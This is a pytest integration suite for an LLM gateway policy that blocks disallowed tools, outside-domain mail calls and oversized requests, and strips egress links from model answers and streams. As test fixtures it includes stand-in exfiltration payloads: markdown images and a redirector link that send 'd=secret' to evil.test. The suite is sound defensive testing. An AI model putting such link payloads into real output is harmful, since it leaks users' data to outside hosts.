"""The official client and a policy of every detector that is more than patterns: what it sees, whole and streamed."""

from __future__ import annotations

import asyncio
from collections.abc import Iterator
from typing import Any

import openai
import orjson
import pytest
from openai import OpenAI

from tests.support.gateway_process import ROOT, GatewayProcess
from tests.support.openai_script import answer, chat, piece, said, stream, tool_call
from tests.support.provider import whole
from tests.support.scripted_server import ScriptedServer, scripted_server

pytestmark = pytest.mark.integration
MODEL = "gpt-4o-mini"
CONFIG = """
version: 1
policies: {dir: policies, bundle: [guards.yaml]}
plugins: [weighbridge_tickets, weighbridge_webhook]
"""
POLICY = """
apiVersion: weighbridge/v1
kind: Policy
metadata: {name: guards, owner: secops}
lists:
  ours: {type: mail_domain, values: [acme.example]}
  egress: {type: host, values: [ok.example, "*.ok.example"]}
detectors:
  links: {use: url_egress, allow: egress}
  size: {use: limits, max_chars: 2000, max_turns: 2, max_tools: 3}
  tools:
    use: tools
    default: deny
    allow: [weather, {tool: mail_send, args: {to: {all_in: ours}}}]
  form: {use: json_schema, schema: {type: object, required: [n], properties: {n: {type: integer}}}}
  hook: {use: webhook, url: "SERVICE/judge", headers: {authorization: "env:HOOK_KEY"}, timeout: 5s}
  lax: {use: webhook, url: "SERVICE/lax", timeout: 5s}
  tickets: {use: "plugin:tickets", projects: [SEC, OPS]}
  judge: {use: "plugin:http_judge", url: "SERVICE/moderate", timeout: 5s}
on_error: {lax: allow}
rules:
  - {id: size, match: {direction: request}, when: size, do: block, mode: enforce}
  - {id: offer, match: {direction: request}, when: tools, do: {rewrite: remove}, mode: enforce}
  - {id: calls, match: {direction: response}, when: tools, do: block, mode: enforce}
  - {id: exfil, match: {direction: response}, when: links, do: {rewrite: text_only}, mode: enforce}
  - {id: form, match: {direction: response, tag: form=yes}, when: form, do: block, mode: enforce}
  - {id: hook, match: {direction: request, tag: hook=yes}, when: hook, do: block, mode: enforce}
  - {id: lax, match: {direction: request, tag: lax=yes}, when: lax, do: block, mode: enforce}
  - {id: judge, match: {direction: request, tag: judge=yes}, when: judge, do: block, mode: enforce}
  - {id: tickets, match: {direction: response}, when: tickets, do: redact, mode: enforce}
tests:
  - {name: link, given: {stream: ["see [the", " docs](//evil.", "test/x) now"]}, expect: {output: see the docs now}}
  - {name: shell, given: {call: shell, args: {}}, expect: {rule: calls, action: block}}
  - name: outside mail
    given: {call: mail_send, args: {to: [eve@proton.example]}}
    expect: {rule: calls, action: block}
  - {name: ticket, given: {role: assistant, text: "it is SEC-4312"}, expect: {output: "it is [TICKET]"}}
"""


@pytest.fixture(scope="module")
def provider() -> Iterator[ScriptedServer]:
    with scripted_server() as running:
        yield running


@pytest.fixture(scope="module")
def hook() -> Iterator[ScriptedServer]:
    with scripted_server() as running:
        yield running


@pytest.fixture(scope="module")
def gateway(provider, hook, tmp_path_factory: pytest.TempPathFactory) -> Iterator[GatewayProcess]:
    home = tmp_path_factory.mktemp("guards")
    (home / "policies").mkdir()
    (home / "policies" / "guards.yaml").write_text(POLICY.replace("SERVICE", hook.url))
    folders = [ROOT, ROOT / "plugins" / "tickets", ROOT / "plugins" / "webhook"]
    env = {"PYTHONPATH": ":".join(map(str, folders)), "HOOK_KEY": "Bearer wh-secret"}
    running = GatewayProcess(home, "--upstream", provider.url, config=CONFIG, env=env)
    yield running
    assert running.stop() == 0
    assert "wh-secret" not in running.stderr


@pytest.fixture
def client(gateway, connect) -> OpenAI:
    return connect(gateway)


def user(*texts: str) -> list[Any]:
    return [{"role": "user", "content": text} for text in texts]


def tool(name: str) -> dict[str, Any]:
    return {"type": "function", "function": {"name": name, "parameters": {"type": "object"}}}


def tagged(tag: str) -> dict[str, str]:
    return {"x-weighbridge-tags": f"{tag}=yes"}


def rule_of(caught: Any, gateway: GatewayProcess) -> str:
    """The rule that a blocked call names, as its record has it."""
    error = caught.value
    assert (error.status_code, error.code) == (400, "policy_blocked")
    record = gateway.exchange(error.response.headers["x-weighbridge-id"])
    assert record["verdict"] == "block"
    blocking = [hit["rule"] for hit in record["guard_events"] if hit["action"] == "block"]
    assert blocking
    assert f"'{blocking[0]}'" in error.body["message"]
    return blocking[0]


def streamed(client: OpenAI, **options: Any) -> tuple[str, str | None]:
    text, finish = "", None
    for chunk in client.chat.completions.create(model=MODEL, messages=user("hello"), stream=True, **options):
        for choice in chunk.choices:
            text += choice.delta.content or ""
            finish = choice.finish_reason or finish
    return text, finish


def test_forbidden_tools_are_not_offered(client, provider) -> None:
    provider.script = answer(chat("fine"))
    client.chat.completions.create(
        model=MODEL, messages=user("hello"), tools=[tool("weather"), tool("shell")], tool_choice="auto"
    )
    sent = orjson.loads(provider.last.body)
    assert [each["function"]["name"] for each in sent["tools"]] == ["weather"]
    assert sent["tool_choice"] == "auto"
    client.chat.completions.create(
        model=MODEL,
        messages=user("hello"),
        tools=[tool("weather"), tool("shell")],
        tool_choice={"type": "function", "function": {"name": "shell"}},
    )
    assert "tool_choice" not in orjson.loads(provider.last.body)


def test_forbidden_calls_are_blocked(client, gateway, provider) -> None:
    provider.script = answer(chat(None, message={"tool_calls": [tool_call()]}, finish_reason="tool_calls"))
    got = client.chat.completions.create(model=MODEL, messages=user("hello"), tools=[tool("weather")])
    assert got.choices[0].message.tool_calls[0].function.name == "weather"
    call = tool_call()
    for name, arguments in (("shell", "{}"), ("mail_send", '{"to":["eve@proton.example"]}')):
        call["function"] = {"name": name, "arguments": arguments}
        provider.script = answer(chat(None, message={"tool_calls": [call]}, finish_reason="tool_calls"))
        with pytest.raises(openai.BadRequestError) as caught:
            client.chat.completions.create(model=MODEL, messages=user("hello"))
        assert rule_of(caught, gateway) == "calls"


@pytest.mark.parametrize(("to", "finish"), [("a@acme.example", "tool_calls"), ("eve@proton.example", "content_filter")])
def test_calls_of_a_stream_are_judged_when_they_are_whole(client, provider, to: str, finish: str) -> None:
    pieces = ['{"to":', f'["{to}', '"]}']
    head = {"index": 0, "id": "call_1", "type": "function", "function": {"name": "mail_send", "arguments": ""}}
    go_on = asyncio.Event()
    started, *rest = stream(
        piece({"role": "assistant", "content": "I write to them. "}),
        piece({"tool_calls": [head]}),
        *(piece({"tool_calls": [{"index": 0, "function": {"arguments": part}}]}) for part in pieces),
        piece({}, "tool_calls"),
    )
    provider.script = [started, rest[0], go_on, *rest[1:]]
    chunks = iter(client.chat.completions.create(model=MODEL, messages=user("hello"), stream=True))
    shown = [next(chunks)]
    provider.signal(go_on)
    deltas = [choice for chunk in [*shown, *chunks] for choice in chunk.choices]
    assert "".join(each.delta.content or "" for each in deltas) == "I write to them. "
    calls = [call for each in deltas for call in each.delta.tool_calls or ()]
    assert "".join(call.function.arguments or "" for call in calls) == ("".join(pieces) * (finish == "tool_calls"))
    assert [each.finish_reason for each in deltas if each.finish_reason] == [finish]


def test_links_are_taken_out_of_answers_and_streams(client, gateway, provider) -> None:
    text = "see [the docs](https://ok.example/a) or ![a chart](https://evil.test/?d=secret) or www.evil.test."
    left = "see [the docs](https://ok.example/a) or a chart or (link removed)."
    provider.script = answer(chat(text))
    raw = client.chat.completions.with_raw_response.create(model=MODEL, messages=user("hello"))
    assert raw.parse().choices[0].message.content == left
    record = gateway.exchange(raw.headers["x-weighbridge-id"])
    assert {hit["detector"] for hit in record["guard_events"]} == {"links/md_image", "links/bare_url"}
    assert "evil.test" not in orjson.dumps(record["guard_events"]).decode()
    provider.script = stream(*said(text))
    assert streamed(client) == (left, "stop")
    provider.script = stream(*[piece({"content": char}) for char in text], piece({}, "stop"))
    assert streamed(client) == (left, "stop")


def test_a_reference_through_a_redirector_is_taken_out_of_a_stream(client, provider) -> None:
    text = "Done. ![c][r]\n\n[r]: https://ok.example/urlp?url=https%3A%2F%2Fevil.test%2F%3Fd%3Dsecret\n"
    provider.script = stream(
        *[piece({"content": text[at : at + 3]}) for at in range(0, len(text), 3)], piece({}, "stop")
    )
    assert streamed(client) == ("Done. ![c][r]\n\n\n", "stop")


def test_requests_that_are_too_large(client, gateway, provider) -> None:
    asked = len(provider.asked)
    for more in (
        {"messages": user("x" * 2001)},
        {"messages": user("a", "b", "c")},
        {"messages": user("a"), "tools": [tool("weather")] * 4},
    ):
        with pytest.raises(openai.BadRequestError) as caught:
            client.chat.completions.create(model=MODEL, **more)
        assert rule_of(caught, gateway) == "size"
    assert len(provider.asked) == asked


def test_an_answer_must_have_the_form(client, gateway, provider) -> None:
    provider.script = answer(chat('{"n": 5}'))
    got = client.chat.completions.create(model=MODEL, messages=user("hello"), extra_headers=tagged("form"))
    assert got.choices[0].message.content == '{"n": 5}'
    for bad in ('{"n": "5"}', "five"):
        provider.script = answer(chat(bad))
        with pytest.raises(openai.BadRequestError) as caught:
            client.chat.completions.create(model=MODEL, messages=user("hello"), extra_headers=tagged("form"))
        assert rule_of(caught, gateway) == "form"
    # Nothing of a stream has left before the form is known: who speaks says nothing yet.
    events = stream(*said('{"n": "5"}'))
    for script in (events, [b"".join(each for each in events if isinstance(each, bytes))]):
        provider.script = script
        with pytest.raises(openai.BadRequestError) as caught:
            streamed(client, extra_headers=tagged("form"))
        assert rule_of(caught, gateway) == "form"


def test_a_webhook_has_its_say(client, gateway, provider, hook) -> None:
    provider.script = answer(chat("fine"))
    hook.script = [whole(b'{"findings":[]}')]
    client.chat.completions.create(model=MODEL, messages=user("some words"), extra_headers=tagged("hook"))
    asked = orjson.loads(hook.last.body)
    assert hook.last.headers["authorization"] == "Bearer wh-secret"
    assert "some words" in [each["text"] for each in asked["texts"]]
    hook.script = lambda asked: [whole(orjson.dumps({"findings": [{"text": 0, "kind": "bad"}]}))]
    with pytest.raises(openai.BadRequestError) as caught:
        client.chat.completions.create(model=MODEL, messages=user("some words"), extra_headers=tagged("hook"))
    assert rule_of(caught, gateway) == "hook"


def test_a_webhook_that_is_down_blocks_or_not_as_the_policy_says(client, gateway, provider, hook) -> None:
    provider.script = answer(chat("fine"))
    hook.script = [whole(b"", "503 Service Unavailable")]
    with pytest.raises(openai.BadRequestError) as caught:
        client.chat.completions.create(model=MODEL, messages=user("hello"), extra_headers=tagged("hook"))
    assert rule_of(caught, gateway) == "on_error:hook"
    raw = client.chat.completions.with_raw_response.create(
        model=MODEL, messages=user("hello"), extra_headers=tagged("lax")
    )
    assert raw.parse().choices[0].message.content == "fine"
    record = gateway.exchange(raw.headers["x-weighbridge-id"])
    assert ("on_error:lax", "allow") in [(hit["rule"], hit["action"]) for hit in record["guard_events"]]
    assert record["coverage"] < 1


def test_detectors_of_plugins(client, gateway, provider, hook) -> None:
    provider.script = stream(*[piece({"content": char}) for char in "it is SEC-4312, not SECT-1"], piece({}, "stop"))
    assert streamed(client) == ("it is [TICKET], not SECT-1", "stop")
    provider.script = answer(chat("fine"))
    hook.script = [whole(b'{"flagged": true}')]
    with pytest.raises(openai.BadRequestError) as caught:
        client.chat.completions.create(model=MODEL, messages=user("hello"), extra_headers=tagged("judge"))
    assert rule_of(caught, gateway) == "judge"
    hook.script = [whole(b"nonsense")]
    with pytest.raises(openai.BadRequestError) as caught:
        client.chat.completions.create(model=MODEL, messages=user("hello"), extra_headers=tagged("judge"))
    assert rule_of(caught, gateway) == "on_error:judge"
